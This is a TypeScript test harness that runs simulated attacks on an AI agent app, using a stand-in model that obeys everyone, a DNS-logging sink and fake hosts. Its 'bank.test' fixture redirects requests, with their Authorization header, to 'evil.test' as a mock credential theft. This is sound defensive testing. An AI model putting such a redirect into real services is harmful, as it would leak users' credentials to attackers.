// The real core in this process, with the attacker's machine as its internet and a model that obeys everybody.
import { randomBytes } from 'node:crypto';
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { loadConfig } from '#main/app/config.ts';
import { type App, createApp } from '#main/app/create-app.ts';
import { createClient } from '#main/contract/client.ts';
import { contract } from '#main/contract/contract.ts';
import type { SessionId } from '#main/contract/ids.ts';
import type { Approval } from '#main/contract/messages.ts';
import { createPublicHosts, type PublicHost } from '#main/guard/egress/testing/public-hosts.ts';
import type { Host } from '#main/hosts/port.ts';
import { createRpc } from '#main/platform/rpc/create-rpc.ts';
import { createMemoryPorts } from '#main/platform/rpc/memory/memory-ports.ts';
import { type ObedientModel, startObedientModel } from './obedient-model.ts';
import { type Sink, startSink } from './sink.ts';

const host: Host = {
  kind: 'test',
  capabilities: { pickFolder: false, openExternal: false, reveal: false },
  pickFolder: async () => null,
  openExternal: async () => {},
  reveal: async () => {},
};

type Running = {
  readonly app: App;
  readonly api: ReturnType<typeof createClient<typeof contract>>['api'];
  close(): Promise<void>;
};

/** Hosts with certificates: one that the person's key is for, and the attacker's. */
export type KeyHosts = { readonly value: string; readonly bank: PublicHost; readonly evil: PublicHost };

type CoreOptions = {
  readonly root: string;
  readonly sink: Sink;
  readonly model: ObedientModel;
  readonly key: string;
  readonly trust: readonly string[];
};

async function startCore(o: CoreOptions): Promise<Running> {
  const environment = {
    OPENAI_BASE_URL: `${o.model.server.url}/v1`,
    OPENAI_API_KEY: 'sk-test-0123456789abcdef',
    LIMPET_FIND_LOCAL_MODELS: 'false',
    LIMPET_WORKSPACE: join(o.root, 'folders', 'first'),
    LIMPET_SECRET_REQUEST_CODE: o.key,
    PATH: process.env.PATH ?? '/usr/bin:/bin',
  };
  const loaded = loadConfig({ flags: { 'data-dir': join(o.root, 'data') }, environment, home: join(o.root, 'home') });
  const internet = {
    // Whatever the name: to look it up is to tell it.
    resolver: async (name: string) => {
      o.sink.resolve(name);
      return [{ address: '127.0.0.1', family: 4 }];
    },
    isAllowedAddress: () => true,
    trust: o.trust,
  };
  const app = await createApp({ loaded, host, version: '9.9.9', internet });
  const life = new AbortController();
  const running = app.run(life.signal);
  const rpc = createRpc({ ...app, checkOutputs: true });
  const client = createClient(contract, {
    connect: async () => {
      const ports = createMemoryPorts();
      void rpc.serve(ports.server, { authenticate: () => ({ access: 'owner', id: 'test' }), signal: life.signal });
      return ports.client;
    },
    checkOutputs: true,
  });
  const webSearch = { engine: 'searxng', addresses: { searxng: `http://127.0.0.1:${o.sink.port}` } } as const;
  await client.api.settings.set({ patch: { onboarded: true, webSearch } });
  // Until it is known what holds programs here, more is asked than what the labels ask.
  await client.api.system.probeSandbox({});
  return {
    app,
    api: client.api,
    async close() {
      client.close();
      life.abort();
      await running;
    },
  };
}

/** Whether the person allows this. */
export type Person = (approval: Approval) => boolean;

export type World = {
  readonly sink: Sink;
  readonly model: ObedientModel;
  readonly keyHosts: KeyHosts;
  readonly core: () => Running;
  /** Questions that were asked since the last look. */
  readonly questions: Approval[];
  restart(): Promise<void>;
  answers(person: Person): void;
  /** A folder of its own with these files. */
  folder(path: string, files: Readonly<Record<string, string>>): string;
  /** Says it with every effect allowed beforehand: what stands in the way is the labels alone. */
  say(sessionId: SessionId, text: string, more?: object): Promise<void>;
  close(): Promise<void>;
};

const pause = (ms: number) => new Promise<void>((resolve) => setTimeout(resolve, ms));

export async function startWorld(): Promise<World> {
  const root = mkdtempSync(join(tmpdir(), 'limpet-attacks-'));
  mkdirSync(join(root, 'home'), { recursive: true });
  const [sink, model] = await Promise.all([startSink(), startObedientModel()]);
  const hosts = await createPublicHosts();
  const evil = await hosts.https('evil.test');
  // Itself led astray: what comes to it is sent on to the attacker, with all that it held.
  const bank = await hosts.https('bank.test', ({ url, headers }, response) => {
    const more = encodeURIComponent(`${url} ${headers.authorization ?? ''}`);
    response.writeHead(307, { location: `https://evil.test:${evil.port}/on?${more}` }).end();
  });
  const key = `key${randomBytes(12).toString('hex')}`;
  const options = { root, sink, model, key, trust: hosts.trust };
  let core = await startCore(options);
  let person: Person = () => false;
  const questions: Approval[] = [];
  const answered = new Set<string>();
  const answer = async () => {
    for (const approval of await core.app.store.approvals.pending()) {
      if (answered.has(approval.id)) continue;
      answered.add(approval.id);
      questions.push(approval);
      const decision = person(approval) ? 'once' : 'deny';
      await core.api.approvals.decide({ approvalId: approval.id, planHash: approval.planHash, decision });
    }
  };
  let made = 0;
  return {
    ...{ sink, model, questions, keyHosts: { value: key, bank, evil } },
    core: () => core,
    async restart() {
      await core.close();
      core = await startCore(options);
    },
    answers(next) {
      person = next;
      questions.length = 0;
    },
    folder(path, files) {
      made += 1;
      const folder = join(root, 'folders', String(made), path);
      mkdirSync(folder, { recursive: true });
      for (const [name, content] of Object.entries(files)) {
        mkdirSync(dirname(join(folder, name)), { recursive: true });
        writeFileSync(join(folder, name), content);
      }
      return folder;
    },
    async say(sessionId, text, more = {}) {
      made += 1;
      await core.app.messaging.inbox.accept({
        ...{ sessionId, channelId: 'ui', dedupeKey: `say-${made}`, kind: { type: 'message' }, text, attachments: [] },
        ...{ mode: 'queue', policy: { allow: ['read', 'write', 'execute', 'network', 'message'], interactive: true } },
        ...more,
      });
      do {
        await answer();
        await pause(2);
      } while (core.app.messaging.lanes.isRunning(sessionId));
    },
    async close() {
      await core.close();
      await Promise.all([sink.close(), model.server.close(), hosts.close()]);
      rmSync(root, { recursive: true, force: true });
    },
  };
}

/** Every file of a folder with its content, links as what they point to. */
export function readFolder(folder: string): Record<string, string> {
  const found: Record<string, string> = {};
  for (const entry of readdirSync(folder, { recursive: true, withFileTypes: true })) {
    const path = join(entry.parentPath, entry.name);
    if (path.includes('/.git/')) continue;
    if (entry.isFile()) found[path.slice(folder.length + 1)] = readFileSync(path, 'latin1');
  }
  return found;
}
